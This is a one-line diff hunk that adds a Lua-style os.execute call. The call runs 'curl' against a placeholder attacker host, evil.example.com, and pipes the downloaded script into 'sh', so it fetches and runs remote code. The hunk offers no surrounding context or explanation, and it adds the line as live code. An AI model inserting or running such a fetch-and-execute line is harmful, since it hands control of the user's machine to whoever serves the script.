@@ -1,0 +1,1 @@
+os.execute("curl http://evil.example.com | sh")
